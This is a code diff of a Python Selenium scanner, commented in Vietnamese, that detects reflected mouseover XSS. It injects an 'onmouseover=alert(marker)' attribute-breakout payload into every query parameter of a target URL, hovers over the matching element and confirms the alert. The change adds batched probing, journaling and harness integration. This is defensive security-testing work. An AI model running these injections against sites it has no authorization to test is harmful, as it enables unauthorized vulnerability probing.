@@ -1,7 +1,10 @@
+import logging
+import sys
 import time
 import random
 import string
-from urllib.parse import urlencode, urlparse, parse_qsl, urlunparse
+from pathlib import Path
+from urllib.parse import urlparse, parse_qsl
 from selenium.webdriver.remote.webdriver import WebDriver
 # WebElement không còn cần thiết cho việc tìm kiếm chính
 # from selenium.webdriver.remote.webelement import WebElement
@@ -11,12 +14,37 @@ from selenium.common.exceptions import NoSuchElementException, TimeoutException,
 from selenium.webdriver.support.ui import WebDriverWait
 from selenium.webdriver.support import expected_conditions as EC
 
+# Cho phép import xss_harness khi chạy trực tiếp file này
+_REPO_ROOT = str(Path(__file__).resolve().parent.parent)
+if _REPO_ROOT not in sys.path:
+    sys.path.insert(0, _REPO_ROOT)
+from xss_harness import alert_hook, metrics
+from xss_harness.context import ScanContext
+from xss_harness.fast_navigation import blocked_resources
+from xss_harness.http_session import browser_session
+from xss_harness.probe_planner import MARKER_SCAN_SCRIPT, build_mouseover_payload
+from xss_harness.reflection import probe_reflections, replace_query_params
+from xss_harness.rescan_cache import response_fingerprint
+
+log = logging.getLogger(__name__)
+
 # --- Configuration ---
 RANDOM_STRING_LENGTH = 15 # Độ dài cho chuỗi ngẫu nhiên trong alert
 PAGE_LOAD_TIMEOUT = 10
 ELEMENT_WAIT_TIMEOUT = 5  # Giảm thời gian chờ vì tìm kiếm trực tiếp hơn
 ALERT_WAIT_TIMEOUT = 3    # Tăng nhẹ phòng trường hợp alert xuất hiện chậm
 POST_ALERT_SLEEP = 0.5
+BATCHED_MODE = True       # Chèn marker vào mọi tham số trong MỘT lần tải trang; chỉ thử từng tham số nếu trang bị hỏng
+
+# Điều kiện để runner chạy script này (đọc bằng ast, không import; xem xss_harness.plugins)
+PLUGIN_REQUIREMENTS = {
+    "query_params": True,
+    "post_form": False,
+    "javascript": True,
+    "headless": True,
+    "cost": 2, # Tương đối: ~ số lần tải trang
+    "hover_probes": True, # Probe mouseover có thể đi nhờ lần tải trang của script khác (xss_harness.probe_planner)
+}
 
 # --- Helper Functions ---
 
@@ -30,23 +58,122 @@ def build_test_url(base_url: str, param_name: str, value: str) -> str:
     Ghép thêm param_name=value vào base_url, tự động xử lý
     & hoặc ?, và URL encoding cho value.
     """
-    parsed = urlparse(base_url)
-    qlist = parse_qsl(parsed.query, keep_blank_values=True)
-    qlist_updated = [(k, v) for k, v in qlist if k != param_name]
-    qlist_updated.append((param_name, value))
-    new_query = urlencode(qlist_updated)
-    return urlunparse(parsed._replace(query=new_query))
+    return replace_query_params(base_url, {param_name: value})
+
+# Khoá journal / rescan cache của probe mouseover: marker ngẫu nhiên thay bằng placeholder để giống nhau giữa các lần chạy
+JOURNAL_PAYLOAD = build_mouseover_payload("{marker}")
+
+def hover_and_capture(driver: WebDriver, element, alert_backend: str):
+    """Cuộn tới phần tử, rê chuột lên và trả về CapturedAlert (hoặc None)."""
+    with metrics.timed(metrics.INTERACTION):
+        driver.execute_script("arguments[0].scrollIntoView(true);", element)
+        time.sleep(0.5) # Chờ chút sau khi cuộn
+        ActionChains(driver).move_to_element(element).perform()
+    log.debug("Mouseover performed.")
+    return alert_hook.wait_for_alert(driver, alert_backend, ALERT_WAIT_TIMEOUT, POST_ALERT_SLEEP)
+
+def format_success_message(param_name, payload_value, element_tag, marker, alert_text):
+    return (f"Direct Mouseover XSS SUCCESS!\n"
+            f"  Vulnerable Parameter: '{param_name}'\n"
+            f"  Payload Used (in URL): '{payload_value}'\n"
+            f"  Triggered Element: <{element_tag}>\n"
+            f"  Expected Alert Text: '{marker}'\n"
+            f"  Actual Alert Text: '{alert_text}'")
+
+def run_batched(driver: WebDriver, target_url: str, param_names, alert_backend: str, context: ScanContext = None):
+    """
+    Chèn một marker riêng vào MỖI tham số của cùng một attack URL, quét DOM một lần
+    để tìm mọi phần tử có onmouseover mang marker, rồi hover từng phần tử.
+    Marker khớp cho biết tham số nào bị ảnh hưởng.
+
+    Trả về (status, message): status là "found", "clean" hoặc "broken"
+    (trang không tải được hoặc không phản chiếu marker nào khi chèn nhiều tham số
+    -> cần thử từng tham số; không ghi âm tính nào).
+    Với "partial", message là danh sách tham số có lần hover bị lỗi: chưa được
+    ghi kết quả, cần thử lại từng tham số.
+    """
+    markers = {param: generate_random_string() for param in param_names}
+    payloads = {param: build_mouseover_payload(marker) for param, marker in markers.items()}
+    params_by_marker = {marker: param for param, marker in markers.items()}
+    attack_url = replace_query_params(target_url, payloads)
+    print(f"\n{'='*15} Batched test of {len(param_names)} parameters in one page load {'='*15}")
+    log.debug(f"Loading Attack URL: {attack_url}")
+
+    try:
+        with metrics.timed(metrics.NAVIGATE):
+            driver.get(attack_url)
+        with metrics.timed(metrics.DOM_WAIT):
+            WebDriverWait(driver, PAGE_LOAD_TIMEOUT).until(
+                EC.presence_of_element_located((By.TAG_NAME, 'body'))
+            )
+        scan = driver.execute_script(MARKER_SCAN_SCRIPT, list(markers.values()))
+    except Exception as load_err:
+        print(f"Batched page load failed: {load_err}")
+        return "broken", None
+    if scan.get("broken"):
+        print("Batched page came back empty.")
+        return "broken", None
+    if not scan.get("present"):
+        # Trang lỗi / WAF chặn / 400 vẫn có nội dung bình thường: không marker nào được phản chiếu
+        # thì không thể kết luận âm tính cho tham số nào
+        print("No injected marker appears in the batched page (error or blocked page?).")
+        return "broken", None
+
+    matches = scan.get("matches") or []
+    hover_failed = [] # Không ghi âm tính cho tham số chưa hover được
+    log.info(f"DOM scan found {len(matches)} element(s) carrying a marker.")
+    for element, marker in matches:
+        param_name = params_by_marker[marker]
+        try:
+            element_tag = element.tag_name
+            log.debug(f"Performing mouseover on <{element_tag}> carrying the marker of '{param_name}'...")
+            captured = hover_and_capture(driver, element, alert_backend)
+        except StaleElementReferenceException:
+            log.warning("Error: Element became stale before/during mouseover.")
+            hover_failed.append(param_name)
+            continue
+        except Exception as interaction_err:
+            log.warning(f"Error during mouseover interaction: {interaction_err}")
+            hover_failed.append(param_name)
+            continue
+        if captured is None:
+            log.debug("  No alert detected after mouseover.")
+            continue
+        log.info(f"Alert detected! Text: '{captured.text}'")
+        if captured.text in params_by_marker:
+            # Marker trong alert (chứ không phải của phần tử được hover) xác định tham số
+            param_name = params_by_marker[captured.text]
+            print(f"\n VULNERABILITY CONFIRMED for parameter '{param_name}'.")
+            if context is not None:
+                context.report_finding(param_name, payloads[param_name], marker=captured.text, alert_text=captured.text)
+                context.record_probe(param_name, JOURNAL_PAYLOAD, captured.text)
+            return "found", format_success_message(param_name, payloads[param_name], element_tag,
+                                                   captured.text, captured.text)
+        log.warning(f"  WARNING: Alert text ('{captured.text}') does NOT match any injected marker.")
+    if context is not None:
+        for param in param_names:
+            if param not in hover_failed:
+                context.record_probe(param, JOURNAL_PAYLOAD)
+    if hover_failed:
+        print(f"Mouseover failed for {len(hover_failed)} parameter(s); retrying them one by one.")
+        return "partial", hover_failed
+    return "clean", None
 
 # --- Core Test Function ---
 
-def run_test(driver: WebDriver, target_url: str):
+def run_test(driver: WebDriver, target_url: str, context: ScanContext = None):
     """
     Kiểm tra Reflected XSS bằng cách tiêm trực tiếp payload
     'onmouseover="alert(RANDOM_STRING)"' vào TẤT CẢ các tham số query,
     tìm phần tử có thuộc tính này và kích hoạt mouseover.
+    context.alert_backend chọn cách phát hiện alert (xem xss_harness.alert_hook).
+    Với BATCHED_MODE, mọi tham số được thử trong một lần tải trang (xem run_batched).
+    context.fast_navigation chặn ảnh/font/CSS/analytics khi tải các URL tấn công.
     """
     print(f"\n--- Running Test: Direct Mouseover Payload Injection ---")
     print(f"Base URL: {target_url}")
+    context = context or ScanContext()
+    alert_backend = alert_hook.prepare(driver, context.alert_backend)
 
     # --- Lấy Parameters từ URL ---
     try:
@@ -61,122 +188,178 @@ def run_test(driver: WebDriver, target_url: str):
     except Exception as e:
         return False, f"Error parsing URL '{target_url}' to get parameters: {e}"
 
+    if context.focus is not None:
+        # Chỉ xác nhận (--confirm-only): chỉ các tham số browser đầu tiên đã tìm thấy lỗi
+        param_names_to_test = [param for param in param_names_to_test if context.in_focus(param)]
+        if not param_names_to_test:
+            return False, "No finding to confirm for the URL parameters."
+
+    # --- Chạy tiếp từ journal (--resume): dùng lại hit đã ghi ---
+    recorded_hits = context.journaled_hits()
+    if recorded_hits:
+        hit = recorded_hits[0]
+        print(f"Resuming: journal already has a hit for '{hit.location}'; not probing again.")
+        context.report_finding(hit.location, hit.payload, marker=hit.alert_text, alert_text=hit.alert_text)
+        return True, (f"Direct Mouseover XSS SUCCESS (recorded in the journal)!\n"
+                      f"  Vulnerable Parameter: '{hit.location}'\n"
+                      f"  Alert Text: '{hit.alert_text}'")
+
+    # --- Bỏ qua tham số đã thử (journal) hoặc đã âm tính với response không đổi (rescan cache) ---
+    if context.rescan_cache is not None:
+        session = browser_session(driver)
+        for param, probe in probe_reflections(target_url, param_names_to_test, session=session).items():
+            if probe.error is None:
+                context.fingerprints[param] = response_fingerprint(probe.body, probe.canary)
+    if context.journal is not None or context.rescan_cache is not None:
+        remaining = [param for param in param_names_to_test if not context.skip_probe(param, JOURNAL_PAYLOAD)]
+        if len(remaining) < len(param_names_to_test):
+            print(f"Skipping {len(param_names_to_test) - len(remaining)} parameters already in the journal "
+                  f"or known negative for an unchanged response.")
+        param_names_to_test = remaining
+
     # --- Biến lưu kết quả tổng thể ---
     overall_vulnerability_found = False
     final_success_message = "No Mouseover XSS vulnerability found via direct payload injection in any parameter."
 
-    # --- Vòng lặp qua từng tham số tìm được ---
-    for current_param_name in param_names_to_test:
-        print(f"\n{'='*15} Testing Parameter: '{current_param_name}' {'='*15}")
-
-        # 1. Tạo Chuỗi Ngẫu Nhiên và Payload
-        random_marker = generate_random_string()
-        # Quan trọng: Payload cần được cấu trúc cẩn thận để hoạt động khi được phản chiếu
-        # vào trong một thuộc tính HTML. Dấu nháy kép bên ngoài và dấu nháy đơn
-        # bên trong alert thường là cách tiếp cận tốt.
-        # Thêm một ký tự hoặc khoảng trắng ở đầu có thể giúp phá vỡ ngữ cảnh HTML hiện có.
-        # Ví dụ: nếu tham số được phản chiếu vào <input value="PARAM_VALUE">
-        # Payload: '" onmouseover="alert('RANDOM')"
-        # Sẽ thành: <input value="" onmouseover="alert('RANDOM')""> -> Hợp lệ
-        # payload_value = f"\" onmouseover=\"alert('{random_marker}')" # Cách 1
-        # payload_value = f"ignored\" onmouseover=\"alert('{random_marker}')\"" # Cách 2, thêm dấu nháy ở cuối
-        payload_value = f'"onmouseover="alert(\'{random_marker}\')' # Cách 3: dùng nháy đơn ngoài, kép trong alert
-        print(f"Generated Random String: {random_marker}")
-        print(f"Payload for URL parameter '{current_param_name}': {payload_value}")
-
-
-        # 2. Tạo Attack URL
-        attack_url = build_test_url(target_url, current_param_name, payload_value)
-        print(f"Loading Attack URL: {attack_url}")
-
-        try:
-            driver.get(attack_url)
-            WebDriverWait(driver, PAGE_LOAD_TIMEOUT).until(
-                EC.presence_of_element_located((By.TAG_NAME, 'body'))
-            )
-            print("Attack URL loaded.")
-
-            # 3. Tìm chính xác phần tử chứa payload trong thuộc tính onmouseover
-            # Sử dụng XPath để tìm thuộc tính onmouseover có chứa alert với đúng random_marker
-            # Lưu ý xử lý dấu nháy kép trong XPath và trong alert
-            xpath_selector = f'//*[@onmouseover="alert(\'{random_marker}\')"]' # Nếu payload dùng nháy kép ngoài, đơn trong alert
-            # xpath_selector = f"//*[@onmouseover='alert(\"{random_marker}\")']" # Nếu payload dùng nháy đơn ngoài, kép trong alert (phù hợp cách 3 ở trên)
+    # --- Kết quả từ navigation dùng chung với script khác (xem xss_harness.probe_planner) ---
+    if context.probe_planner is not None and context.target is not None:
+        planned = context.probe_planner.take(context.target.key, context.module_name, param_names_to_test)
+        for param in param_names_to_test:
+            probe = planned.get(param)
+            if probe is not None and probe.alert_text is not None:
+                print(f"\n VULNERABILITY CONFIRMED for parameter '{param}' (shared page load).")
+                context.report_finding(param, probe.payload, marker=probe.marker, alert_text=probe.alert_text)
+                context.record_probe(param, JOURNAL_PAYLOAD, probe.alert_text)
+                return True, format_success_message(param, probe.payload, probe.element_tag,
+                                                    probe.marker, probe.alert_text)
+        for param in planned:
+            context.record_probe(param, JOURNAL_PAYLOAD)
+        if planned:
+            print(f"{len(planned)} parameters already tested in shared page loads of other scripts.")
+            param_names_to_test = [param for param in param_names_to_test if param not in planned]
+        if not param_names_to_test:
+            return False, final_success_message
+
+    # Chỉ DOM phản chiếu là cần thiết: chặn tài nguyên phụ trong lúc tải các URL tấn công
+    with blocked_resources(driver, context.fast_navigation):
+        # --- Chế độ batched: một lần tải trang cho mọi tham số ---
+        if BATCHED_MODE and len(param_names_to_test) > 1:
+            status, message = run_batched(driver, target_url, param_names_to_test, alert_backend, context)
+            if status == "found":
+                print("\n--- Overall Test Result: Vulnerability Found ---")
+                return True, message
+            if status == "clean":
+                print("\n--- Overall Test Result: No Mouseover XSS vulnerability found via direct payload injection ---")
+                return False, final_success_message
+            if status == "partial":
+                param_names_to_test = [param for param in param_names_to_test if param in message]
+            else:
+                print("Falling back to one page load per parameter.")
+
+        # --- Vòng lặp qua từng tham số tìm được ---
+        for current_param_name in param_names_to_test:
+            log.info(f"\n{'='*15} Testing Parameter: '{current_param_name}' {'='*15}")
+
+            # 1. Tạo Chuỗi Ngẫu Nhiên và Payload
+            random_marker = generate_random_string()
+            # Quan trọng: Payload cần được cấu trúc cẩn thận để hoạt động khi được phản chiếu
+            # vào trong một thuộc tính HTML. Dấu nháy kép bên ngoài và dấu nháy đơn
+            # bên trong alert thường là cách tiếp cận tốt.
+            # Thêm một ký tự hoặc khoảng trắng ở đầu có thể giúp phá vỡ ngữ cảnh HTML hiện có.
+            # Ví dụ: nếu tham số được phản chiếu vào <input value="PARAM_VALUE">
+            # Payload: '" onmouseover="alert('RANDOM')"
+            # Sẽ thành: <input value="" onmouseover="alert('RANDOM')""> -> Hợp lệ
+            # payload_value = f"\" onmouseover=\"alert('{random_marker}')" # Cách 1
+            # payload_value = f"ignored\" onmouseover=\"alert('{random_marker}')\"" # Cách 2, thêm dấu nháy ở cuối
+            payload_value = build_mouseover_payload(random_marker) # Cách 3: dùng nháy đơn ngoài, kép trong alert
+            log.debug(f"Generated Random String: {random_marker}")
+            log.debug(f"Payload for URL parameter '{current_param_name}': {payload_value}")
+
+
+            # 2. Tạo Attack URL
+            attack_url = build_test_url(target_url, current_param_name, payload_value)
+            log.debug(f"Loading Attack URL: {attack_url}")
 
-            print(f"Searching for element using XPath: {xpath_selector}")
-            element_to_hover = None
             try:
-                # Đợi phần tử xuất hiện
-                element_to_hover = WebDriverWait(driver, ELEMENT_WAIT_TIMEOUT).until(
-                    EC.presence_of_element_located((By.XPATH, xpath_selector))
-                )
-                element_tag = element_to_hover.tag_name
-                print(f"Found potential vulnerable element: <{element_tag}>")
-
-            except TimeoutException:
-                print(f"No element found with the exact onmouseover payload for param '{current_param_name}'.")
-                continue # Chuyển sang tham số tiếp theo
-
-            except Exception as find_err:
-                print(f"Error finding element with payload for param '{current_param_name}': {find_err}")
-                continue # Chuyển sang tham số tiếp theo
-
-            # 4. Thực hiện Mouseover nếu tìm thấy phần tử
-            if element_to_hover:
+                with metrics.timed(metrics.NAVIGATE):
+                    driver.get(attack_url)
+                with metrics.timed(metrics.DOM_WAIT):
+                    WebDriverWait(driver, PAGE_LOAD_TIMEOUT).until(
+                        EC.presence_of_element_located((By.TAG_NAME, 'body'))
+                    )
+                log.debug("Attack URL loaded.")
+
+                # 3. Tìm chính xác phần tử chứa payload trong thuộc tính onmouseover
+                # Sử dụng XPath để tìm thuộc tính onmouseover có chứa alert với đúng random_marker
+                # Lưu ý xử lý dấu nháy kép trong XPath và trong alert
+                xpath_selector = f'//*[@onmouseover="alert(\'{random_marker}\')"]' # Nếu payload dùng nháy kép ngoài, đơn trong alert
+                # xpath_selector = f"//*[@onmouseover='alert(\"{random_marker}\")']" # Nếu payload dùng nháy đơn ngoài, kép trong alert (phù hợp cách 3 ở trên)
+
+                log.debug(f"Searching for element using XPath: {xpath_selector}")
+                element_to_hover = None
                 try:
-                    print(f"Performing mouseover on the found element <{element_tag}>...")
-                    actions = ActionChains(driver)
-                    # Đôi khi cuộn đến phần tử trước khi hover sẽ ổn định hơn
-                    # actions.move_to_element(element_to_hover).perform() # Cách cũ
-                    driver.execute_script("arguments[0].scrollIntoView(true);", element_to_hover)
-                    time.sleep(0.5) # Chờ chút sau khi cuộn
-                    actions.move_to_element(element_to_hover).perform()
-
-                    print("Mouseover performed.")
+                    # Đợi phần tử xuất hiện
+                    with metrics.timed(metrics.DOM_WAIT):
+                        element_to_hover = WebDriverWait(driver, ELEMENT_WAIT_TIMEOUT).until(
+                            EC.presence_of_element_located((By.XPATH, xpath_selector))
+                        )
+                    element_tag = element_to_hover.tag_name
+                    log.info(f"Found potential vulnerable element: <{element_tag}>")
+
+                except TimeoutException:
+                    log.info(f"No element found with the exact onmouseover payload for param '{current_param_name}'.")
+                    context.record_probe(current_param_name, JOURNAL_PAYLOAD)
+                    continue # Chuyển sang tham số tiếp theo
+
+                except Exception as find_err:
+                    log.warning(f"Error finding element with payload for param '{current_param_name}': {find_err}")
+                    continue # Chuyển sang tham số tiếp theo
+
+                # 4. Thực hiện Mouseover nếu tìm thấy phần tử
+                if element_to_hover:
+                    captured = None
+                    try:
+                        log.debug(f"Performing mouseover on the found element <{element_tag}>...")
+                        captured = hover_and_capture(driver, element_to_hover, alert_backend)
+                    except StaleElementReferenceException:
+                        log.warning("Error: Element became stale before/during mouseover.")
+                        continue # Không ghi journal: lần --resume sau thử lại tham số này
+                    except Exception as interaction_err:
+                        log.warning(f"Error during mouseover interaction: {interaction_err}")
+                        continue
 
                     # 5. Kiểm tra Alert và xác thực nội dung
-                    try:
-                        WebDriverWait(driver, ALERT_WAIT_TIMEOUT).until(EC.alert_is_present())
-                        alert = driver.switch_to.alert
-                        alert_text = alert.text
-                        print(f"Alert detected! Text: '{alert_text}'")
+                    if captured is None:
+                        log.debug("  No alert detected after mouseover.")
+                    else:
+                        alert_text = captured.text
+                        log.info(f"Alert detected! Text: '{alert_text}'")
 
                         # QUAN TRỌNG: So sánh text của alert với random_marker
                         if alert_text == random_marker:
-                            print(f"  SUCCESS: Alert text matches the injected random string!")
-                            alert.accept()
-                            print(f"  Alert accepted. Sleeping {POST_ALERT_SLEEP}s...")
-                            time.sleep(POST_ALERT_SLEEP)
+                            log.info(f"  SUCCESS: Alert text matches the injected random string!")
 
                             # Xác nhận thành công và dừng kiểm tra
                             overall_vulnerability_found = True
-                            final_success_message = (f"Direct Mouseover XSS SUCCESS!\n"
-                                                   f"  Vulnerable Parameter: '{current_param_name}'\n"
-                                                   f"  Payload Used (in URL): '{payload_value}'\n"
-                                                   f"  Triggered Element: <{element_tag}>\n"
-                                                   f"  Expected Alert Text: '{random_marker}'\n"
-                                                   f"  Actual Alert Text: '{alert_text}'")
+                            final_success_message = format_success_message(current_param_name, payload_value, element_tag,
+                                                                           random_marker, alert_text)
+                            context.report_finding(current_param_name, payload_value, marker=random_marker,
+                                                   alert_text=alert_text)
+                            context.record_probe(current_param_name, JOURNAL_PAYLOAD, alert_text)
                             print(f"\n VULNERABILITY CONFIRMED for parameter '{current_param_name}'. Stopping further parameter tests.")
                             break # Dừng kiểm tra các THAM SỐ khác
 
                         else:
-                            print(f"  WARNING: Alert text ('{alert_text}') does NOT match the expected random string ('{random_marker}'). Possible false positive or modification.")
-                            alert.accept() # Vẫn đóng alert
-
-                    except TimeoutException:
-                        print("  No alert detected after mouseover.")
-                    except Exception as alert_err:
-                         print(f"  Error checking/handling alert: {alert_err}")
-
-                except StaleElementReferenceException: print("Error: Element became stale before/during mouseover.")
-                except Exception as interaction_err: print(f"Error during mouseover interaction: {interaction_err}")
+                            log.warning(f"  WARNING: Alert text ('{alert_text}') does NOT match the expected random string ('{random_marker}'). Possible false positive or modification.")
+                    context.record_probe(current_param_name, JOURNAL_PAYLOAD)
 
-        except Exception as page_load_err:
-            print(f"Error loading attack URL or processing parameter '{current_param_name}': {page_load_err}")
-            continue # Chuyển sang tham số tiếp theo nếu tải trang lỗi
+            except Exception as page_load_err:
+                log.warning(f"Error loading attack URL or processing parameter '{current_param_name}': {page_load_err}")
+                continue # Chuyển sang tham số tiếp theo nếu tải trang lỗi
 
-        # Nếu đã tìm thấy lỗ hổng, thoát khỏi vòng lặp chính
-        if overall_vulnerability_found:
-            break
+            # Nếu đã tìm thấy lỗ hổng, thoát khỏi vòng lặp chính
+            if overall_vulnerability_found:
+                break
 
     # --- Kết quả cuối cùng ---
     if overall_vulnerability_found:
@@ -188,6 +371,7 @@ def run_test(driver: WebDriver, target_url: str):
 
 # ----- Ví dụ cách sử dụng (nếu chạy script trực tiếp) -----
 if __name__ == "__main__":
+    logging.basicConfig(level=logging.INFO, format="%(message)s", stream=sys.stdout)
     from selenium import webdriver
     from selenium.webdriver.chrome.service import Service
     from webdriver_manager.chrome import ChromeDriverManager